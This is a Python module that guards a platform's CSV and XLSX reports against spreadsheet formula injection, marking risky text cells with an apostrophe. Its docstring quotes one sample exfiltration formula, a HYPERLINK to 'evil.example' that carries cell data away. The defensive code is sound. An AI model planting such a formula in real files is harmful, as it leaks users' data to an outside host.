"""Cells of the spreadsheets the platform hands out (CSV and XLSX): data, never formulas.

Text in a report comes from people: a student's name, a company's name from the public
registration form, a position's title. Excel, LibreOffice and Google Sheets read a cell that
starts with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?x=" & A2, ...)`
sends the row away on a click; DDE payloads once ran programs), and a leading tab or carriage
return can hide one. As OWASP recommends against this "CSV injection", every text cell that
starts with one of those characters gets a leading apostrophe, which spreadsheet programs take
as "this is text". The text itself is kept whole after it.

The same goes for the characters Unicode NFKC folds into those: the full-width `＝`, `＋`, `－`,
`＠` that Japanese and Chinese input methods type, and small or superscript forms. We have not
verified that any spreadsheet program reads them as a formula; but the readers of these reports
work in Japanese and Chinese, and an apostrophe before the rare text that starts with one costs
nothing.

Numbers, dates and booleans are left as they are: typed values are not formulas, and a negative
number stays a number (sorting and sums in Excel keep working). In an XLSX file every text cell
is written as a string: openpyxl by itself turns any text starting with `=` into a formula and
`#N/A`-like text into an error value (openpyxl/cell/cell.py, `Cell._bind_value`).

This module is the one place that writes report cells: every CSV and XLSX the platform
produces goes through `csv_bytes` and `xlsx_cell` (tests/unit/test_spreadsheets.py checks that
no other module writes either format).
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import TYPE_STRING, Cell

# OWASP's list: what makes a spreadsheet program read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r")
TEXT_MARK = "'"
BOM = "\ufeff"


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet program could read `text` as a formula: it starts with one of
    FORMULA_STARTS or a character NFKC folds into one (full-width `＝`, small `﹦`, ...)."""
    if not text:
        return False
    return unicodedata.normalize("NFKC", text[0])[:1] in FORMULA_STARTS


def neutralise(value: Any) -> Any:
    """The value as a cell must hold it: text that could start a formula behind an
    apostrophe; anything else (numbers, dates, booleans, None, quoted text) unchanged."""
    if isinstance(value, str) and starts_a_formula(value):
        return TEXT_MARK + value
    return value


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file Excel opens right: UTF-8 with a byte order mark (without one, Excel in Japan
    and Taiwan reads Shift_JIS or Big5 and garbles every name), CRLF line ends (RFC 4180),
    every cell neutralised, None an empty cell. Cells are text, numbers or booleans: the
    caller writes dates in the format its readers expect."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else neutralise(v) for v in row])
    return buffer.getvalue().encode("utf-8")


def xlsx_cell(worksheet: Any, value: Any) -> Cell:
    """A cell for a write-only `worksheet` (`Workbook(write_only=True)`): text neutralised and
    always a string (never the formula or error value openpyxl would infer from it); numbers,
    dates and booleans typed."""
    cell = WriteOnlyCell(worksheet, value=neutralise(value))
    if isinstance(cell.value, str):
        cell.data_type = TYPE_STRING
    return cell
